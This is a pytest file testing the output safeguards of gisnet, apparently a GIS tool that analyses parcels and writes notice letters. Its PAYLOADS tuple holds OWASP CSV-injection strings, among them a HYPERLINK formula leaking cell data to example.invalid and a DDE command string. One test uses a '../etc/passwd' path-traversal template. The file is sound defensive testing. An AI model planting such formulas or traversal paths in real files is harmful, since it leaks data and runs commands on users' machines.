"""Nothing gisnet writes can hurt: each case tried as a hostile or careless user would.

Each test is one row of the table "Writing: nothing gisnet writes can hurt" in
docs/reliability.md, with its exact expected outcome:

- the output guard (``gisnet.output.guard``): an output never replaces an input, a
  town file or layer only with ``--force``, an input layer never;
- spreadsheet-safe text in every CSV and XLSX (OWASP's CSV-injection payloads);
- long text in letters, one parcel's failure never costing the other letters;
- letter templates checked like layer files, before the analysis;
- ``gisnet init`` skipping what it cannot read.

The PostGIS cases (a ``where`` that writes, a locked table) are in tests/test_postgis.py.
Cases that could block (a FIFO) run in a subprocess with a timeout.
"""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
from shapely.geometry import Point

from gisnet.cli import main

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "layers" / "sample"
SWMM = Path(__file__).parent / "data" / "swmm" / "Example1.inp"
LOCAL_FT = ("+proj=tmerc +lat_0=0 +lon_0=-75 +k=1 +x_0=0 +y_0=0 +ellps=GRS80 +units=us-ft "
            "+no_defs")
HANG_TIMEOUT_S = 120
#: OWASP's CSV-injection payloads, each as an owner's name.
PAYLOADS = ('=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "=cmd|' /C calc'!A0",
            "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1")
#: Parcels of the sample served with notice while on a private system; the fixture below
#: records a health hazard for every parcel, the ground an order needs (§ 168-22.3C), so
#: packets are written for them.
PARCELS = ("6262-10-275", "6262-11-239")


def _cli(argv: list[str], capsys) -> tuple[int, str, str]:
    capsys.readouterr()
    rc = main(argv)
    out, err = capsys.readouterr()
    return rc, out, err


def _one_error(rc: int, err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.startswith("gisnet: error:")]
    assert rc == 2 and len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


def _subprocess(argv: list[str]) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": f"{ROOT}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}
    try:
        return subprocess.run([sys.executable, "-m", "gisnet", *argv], capture_output=True,
                              text=True, timeout=HANG_TIMEOUT_S, env=env,
                              stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        pytest.fail(f"gisnet {' '.join(argv)} still running after {HANG_TIMEOUT_S} s: it hangs")


def _hashes(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def town_copy(tmp_path) -> Path:
    d = tmp_path / "town"
    shutil.copytree(SAMPLE, d)
    return d


# ------------------------------------------------------------------ output guard


def test_import_swmm_into_a_town_needs_force_and_never_replaces_its_layers(town_copy, capsys):
    """import-swmm into a folder holding a town: refused without --force, the folder
    unchanged; with --force the town file is replaced, every layer left as it was."""
    pytest.importorskip("swmmio")
    before = _hashes(town_copy)
    argv = ["import-swmm", str(SWMM), str(town_copy), "--crs", LOCAL_FT, "--profile",
            "poughkeepsie-fourth-ward", "-q"]
    line = _one_error(*_cli(argv, capsys)[::2])
    assert "gisnet.toml exists already and is a town file" in line and "--force" in line
    assert _hashes(town_copy) == before
    assert _cli([*argv, "--force"], capsys)[0] == 0
    after = _hashes(town_copy)
    assert after.pop("gisnet.toml") != before.pop("gisnet.toml")
    assert {k: after[k] for k in before} == before  # every layer as it was
    # now the town reads swmm.gpkg: importing again replaces it never, --force or not
    line = _one_error(*_cli([*argv, "--force"], capsys)[::2])
    assert "swmm.gpkg, an input of the town" in line and "even with --force" in line


def test_no_writer_replaces_an_input(town_copy, tmp_path, capsys):
    """export-swmm, figure, init --out and run --out onto a town's files: one error
    line naming both paths, nothing written."""
    before = _hashes(town_copy)
    t = str(town_copy)
    cases = [
        (["export-swmm", "--layers", t, "--out", f"{t}/mains.dbf"], "over the input"),
        (["figure", "obligations", "--layers", t, "--out", f"{t}/parcels.prj"],
         "over the input"),
        (["init", t, "--out", f"{t}/mains.shp", "--force"], "over the input"),
        (["export-swmm", "--layers", t, "--out", f"{t}/gisnet.toml"], "over the input"),
    ]
    for argv, want in cases:
        line = _one_error(*_cli(argv, capsys)[::2])
        assert want in line, (argv, line)
    # another town's folder: its layers (a results GeoPackage read as a layer) and
    # its town file are kept from a run or an export into that folder
    other = tmp_path / "other"
    shutil.copytree(town_copy, other)
    (other / "gisnet-results.gpkg").write_bytes((town_copy / "parcels.shp").read_bytes())
    tf = other / "gisnet.toml"
    tf.write_text(tf.read_text().replace('path = "plants.shp"', 'path = "gisnet-results.gpkg"'))
    other_before = _hashes(other)
    line = _one_error(*_cli(["run", "--layers", t, "--out", str(other), "--no-maps", "-q"],
                            capsys)[::2])
    assert "gisnet-results.gpkg, an input of the town" in line and str(tf) in line
    line = _one_error(*_cli(["export-swmm", "--layers", t, "--out", str(tf)], capsys)[::2])
    assert "exists already and is a town file" in line
    assert _hashes(town_copy) == before and _hashes(other) == other_before


def test_guard_rules(tmp_path):
    """The rules of gisnet.output.guard one by one."""
    from gisnet.errors import ConfigError
    from gisnet.output.guard import Output, guard_outputs

    d = tmp_path / "d"
    d.mkdir()
    (d / "roads.geojson").write_text("{}")
    (d / "notes.txt").write_text("x")
    guard_outputs([d / "notes.txt", d / "new.geojson"])  # not a layer / not there yet
    with pytest.raises(ConfigError, match=r"is a layer file.*name another"):
        guard_outputs([d / "roads.geojson"])
    guard_outputs([d / "roads.geojson"], force=True)
    with pytest.raises(ConfigError, match=r"is a layer file.*give --force"):
        guard_outputs([Output(d / "notes.txt", "layer")], force_option="--force")
    # a town file that cannot be read: no layer-like file beside it is replaced
    (d / "gisnet.toml").write_text("[broken")
    with pytest.raises(ConfigError, match="town file beside it cannot be read"):
        guard_outputs([d / "roads.geojson"], force=True)
    # gisnet's own outputs are replaced freely
    (d / "gisnet-results.gpkg").write_text("x")
    guard_outputs([d / "gisnet-results.gpkg"])


# ------------------------------------------------------------------ spreadsheets


def _assert_safe_xlsx(path: Path, texts: set[str]) -> None:
    """No formula cell at all; each of ``texts`` a string cell (XML reads a carriage
    return back as a line feed)."""
    openpyxl = pytest.importorskip("openpyxl")
    texts = {t.replace("\r", "\n") for t in texts}
    wb = openpyxl.load_workbook(path)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value in texts:
                    assert c.data_type == "s"
                    seen.add(c.value)
    assert seen == texts, texts - seen


def test_tables_csv_and_xlsx_never_hold_a_formula(tmp_path):
    """--tables csv/xlsx: each payload is text (a leading apostrophe in the CSV, a
    string cell in the XLSX); numbers, negative ones too, stay numbers."""
    from gisnet.output import write_tables

    n = len(PAYLOADS)
    layer = gpd.GeoDataFrame(
        {"parcel_id": [f"P{i}" for i in range(n)], "owner_name": list(PAYLOADS),
         "distance_ft": [-2.5] + [float(i) for i in range(1, n)],
         "deadline_days": pd.array([-3, *range(1, n)], dtype="Int64"),
         "=HYPERLINK(\"x\")": ["-2"] * n},
        geometry=[Point(i, i) for i in range(n)], crs="EPSG:2260")
    write_tables(tmp_path, {"obligations": layer}, ["csv", "xlsx"])
    with (tmp_path / "tables" / "obligations.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert "'=HYPERLINK(\"x\")" in header
    col = header.index("owner_name")
    assert [r[col] for r in body] == ["'" + p for p in PAYLOADS]
    assert body[0][header.index("distance_ft")] == "-2.5"
    assert body[0][header.index("deadline_days")] == "-3"
    assert {r[header.index("'=HYPERLINK(\"x\")")] for r in body} == {"-2"}  # a plain number
    xlsx = tmp_path / "tables" / "gisnet-results.xlsx"
    _assert_safe_xlsx(xlsx, set(PAYLOADS))
    import openpyxl

    ws = openpyxl.load_workbook(xlsx)["obligations"]
    cells = {ws.cell(1, j).value: ws.cell(2, j) for j in range(1, ws.max_column + 1)}
    dist = next(c for k, c in cells.items() if str(k).startswith("Distance"))
    assert dist.data_type == "n" and dist.value == -2.5


@pytest.fixture(scope="module")
def hostile_owners(tmp_path_factory):
    """The sample town with an owner's name per payload, a 10,000-character address
    and a 10,000-character owner; obligations of the packet parcels."""
    from gisnet.io import load_town
    from gisnet.pipeline import analyse

    folder = tmp_path_factory.mktemp("owners")
    parcels = pyogrio.read_dataframe(SAMPLE / "parcels.shp")
    parcels["OWNER"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(parcels))]
    key = parcels["PRINT_KEY"]
    parcels.loc[key == PARCELS[0], "PROP_ADDR"] = "12 " + "Long" * 2500
    parcels.loc[key == PARCELS[1], "OWNER"] = "W" * 10_000
    parcels["HEALTHHAZ"] = "Y"  # every parcel: a ground on which notice may be given
    src = folder / "parcels.gpkg"
    pyogrio.write_dataframe(parcels, src)
    town = load_town(SAMPLE, overrides={"parcels": str(src)})
    res = analyse(town, only=["obligations"])
    ob = res.obligations.obligations
    assert set(ob.loc[ob["parcel_id"].isin(PARCELS), "status"]) == {"required"}
    ids = [str(i) for i in ob.loc[ob["status"] == "required", "parcel_id"]][:12]
    return town, res, sorted(set(ids) | set(PARCELS))


def test_mail_merge_tables_never_hold_a_formula(hostile_owners, tmp_path):
    from gisnet.notices import write_notices

    town, res, ids = hostile_owners
    ns = write_notices(town, res, tmp_path / "n", parcels=ids, figures=False)
    owners = {p.values["owner_name"] for p in ns.packets}
    payloads = owners & set(PAYLOADS)
    assert len(payloads) >= 4, owners
    with (ns.out / "notices.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    got = {r["owner_name"] for r in table}
    assert {"'" + p for p in payloads} <= got and not (got & set(PAYLOADS))
    _assert_safe_xlsx(ns.out / "notices.xlsx", payloads)


# ------------------------------------------------------------------ letters


def test_any_length_of_text_lays_out_and_the_csv_keeps_it_whole(hostile_owners, tmp_path):
    """A 10,000-character address and owner: every letter is written, the PDF shows
    them shortened with "…", the CSV holds them whole."""
    from pypdf import PdfReader

    from gisnet.notices import write_notices

    town, res, _ = hostile_owners
    ns = write_notices(town, res, tmp_path / "n", parcels=list(PARCELS))
    assert sorted(p.parcel_id for p in ns.packets) == sorted(PARCELS) and not ns.failed
    for p in ns.packets:
        text = "".join(pg.extract_text() for pg in PdfReader(ns.out / p.file_name).pages)
        assert "\u2026" in text
    with (ns.out / "notices.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["parcel_id"]: r for r in csv.DictReader(fh)}
    assert len(rows[PARCELS[0]]["address"]) == 3 + 10_000
    assert rows[PARCELS[1]]["owner_name"] == "W" * 10_000


def test_one_parcel_failing_never_costs_the_other_letters(hostile_owners, tmp_path,
                                                          monkeypatch):
    import gisnet.notices.pdf as pdf
    from gisnet.notices import write_notices

    town, res, _ = hostile_owners
    real = pdf.write_pdf

    def write_pdf(path, stories, title):
        if PARCELS[0] in title:
            raise MemoryError("no room")
        return real(path, stories, title)

    monkeypatch.setattr(pdf, "write_pdf", write_pdf)
    ns = write_notices(town, res, tmp_path / "n", parcels=list(PARCELS), figures=False)
    assert [p.parcel_id for p in ns.packets] == [PARCELS[1]]
    assert ns.failed == [(PARCELS[0], "no room")]
    assert (ns.out / ns.packets[0].file_name).is_file()
    assert [f.name for f in ns.out.glob("notice-*.pdf")] == [ns.packets[0].file_name]
    with (ns.out / "notices.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert [r["parcel_id"] for r in csv.DictReader(fh)] == [PARCELS[1]]


# ------------------------------------------------------------------ templates


@pytest.mark.parametrize("case", ["fifo", "dev_zero", "8_mb", "one_word_2_mb", "latin1"])
def test_a_bad_template_is_one_line_before_the_analysis(case, tmp_path, capsys, monkeypatch):
    """--template: refused at once (one line, exit 2), before the town is analysed."""
    import gisnet.pipeline

    tpl = tmp_path / "letter.txt"
    want = {"fifo": r"letter\.txt: letter template is a FIFO \(named pipe\)",
            "dev_zero": r"zero: letter template is a device",
            "8_mb": r"letter\.txt: letter template is over 64 KiB",
            "one_word_2_mb": r"letter\.txt: letter template is over 64 KiB",
            "latin1": r"letter\.txt: letter template is not UTF-8 text"}[case]
    if case == "fifo":
        os.mkfifo(tpl)
    elif case == "dev_zero":
        tpl = Path("/dev/zero")
    elif case == "8_mb":
        tpl.write_text("Dear {owner_name},\n" * (8 * 1024 * 1024 // 19), encoding="utf-8")
    elif case == "one_word_2_mb":
        tpl.write_text("A" * (2 * 1024 * 1024), encoding="utf-8")
    else:
        tpl.write_bytes("Dear {owner_name}, caf\u00e9\n".encode("latin-1"))
    argv = ["notices", "--layers", str(SAMPLE), "--out", str(tmp_path / "n"),
            "--template", str(tpl)]
    if case in ("fifo", "dev_zero"):  # could block: a subprocess with a timeout
        r = _subprocess(argv)
        rc, err = r.returncode, r.stderr
    else:
        def no_analysis(*a, **k):
            raise AssertionError("the town was analysed before the template was checked")

        monkeypatch.setattr(gisnet.pipeline, "analyse", no_analysis)
        rc, _, err = _cli(argv, capsys)
    import re

    assert re.search(want, _one_error(rc, err)), err
    assert not (tmp_path / "n").exists()


def test_a_town_file_template_outside_the_town_is_refused(town_copy, capsys, monkeypatch):
    import gisnet.pipeline

    tf = town_copy / "gisnet.toml"
    tf.write_text(tf.read_text().replace(
        "[notices]\n", '[notices]\ntemplate = "' + "../" * 30 + 'etc/passwd"\n', 1))
    monkeypatch.setattr(gisnet.pipeline, "analyse", lambda *a, **k: pytest.fail("analysed"))
    line = _one_error(*_cli(["notices", "--layers", str(town_copy), "--out",
                             str(town_copy.parent / "n")], capsys)[::2])
    assert "passwd: the letter template the town file names lies outside the town folder" \
        in line


def test_a_long_one_word_template_lays_out(hostile_owners, tmp_path):
    """A template of one 60,000-character word (under the size cap) is laid out."""
    from gisnet.notices import load_template, write_notices

    town, res, _ = hostile_owners
    tpl = tmp_path / "word.txt"
    tpl.write_text("{parcel_id} " + "A" * 60_000 + "\n", encoding="utf-8")
    ns = write_notices(town, res, tmp_path / "n", parcels=[PARCELS[1]], figures=False,
                       template=load_template(tpl))
    assert len(ns.packets) == 1 and not ns.failed


# ------------------------------------------------------------------ init


def test_init_skips_what_it_cannot_read(town_copy, capsys):
    """A FIFO, a truncated shapefile, a GeoPackage that is not one and a broken link:
    each skipped with its reason (a line each), the town file written for the rest."""
    from gisnet.init import propose

    (town_copy / "gisnet.toml").unlink()
    clean = {r: f.path.name for r, f in propose(town_copy).chosen().items()}
    os.mkfifo(town_copy / "pipe.geojson")
    for ext in (".shp", ".shx", ".dbf"):
        shutil.copy(town_copy / f"streets{ext}", town_copy / f"cut{ext}")
    data = (town_copy / "cut.shp").read_bytes()
    (town_copy / "cut.shp").write_bytes(data[: len(data) // 2])
    (town_copy / "junk.gpkg").write_bytes(b"not a GeoPackage at all" * 10)
    os.symlink("nowhere.shp", town_copy / "gone.shp")
    r = _subprocess(["init", str(town_copy), "--profile", "poughkeepsie-fourth-ward"])
    assert r.returncode == 0, r.stderr
    skipped = {ln.strip().split(":")[0]: ln for ln in r.stdout.splitlines()
               if ln.strip().startswith("skipped ")}
    assert {"skipped cut.shp", "skipped gone.shp", "skipped junk.gpkg",
            "skipped pipe.geojson"} <= set(skipped), r.stdout
    assert "shapefile is truncated" in skipped["skipped cut.shp"]
    assert "is a FIFO" in skipped["skipped pipe.geojson"]
    assert "broken symbolic link" in skipped["skipped gone.shp"]
    assert "cannot list the layers" in skipped["skipped junk.gpkg"]
    text = (town_copy / "gisnet.toml").read_text(encoding="utf-8")
    assert "# skipped: cut.shp: shapefile is truncated" in text
    # the rest is proposed as it would be without the damaged files
    import tomllib

    doc = tomllib.loads(text)
    assert {r: v["path"] for r, v in doc["layers"].items()} == clean
